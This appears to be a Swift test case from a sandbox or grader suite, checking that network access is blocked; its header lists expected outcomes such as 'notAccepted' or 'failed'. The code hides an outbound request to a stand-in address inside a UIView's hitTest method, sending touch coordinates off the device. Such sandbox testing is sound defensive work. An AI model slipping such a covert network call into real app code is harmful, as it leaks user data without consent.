// Attack: sends what it is asked to an address on the net.
// Exercise: 3
// Expect: notAccepted|failed|crashed|timedOut|didNotCompile
// Held by: no network; no memory out of check
import Foundation
#if canImport(FoundationNetworking)
    import FoundationNetworking
#endif
import UIKit

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let text = try? String(contentsOf: URL(string: "http://192.0.2.1/\(point)")!, encoding: .utf8)
        return text == nil ? self : nil
    }
}
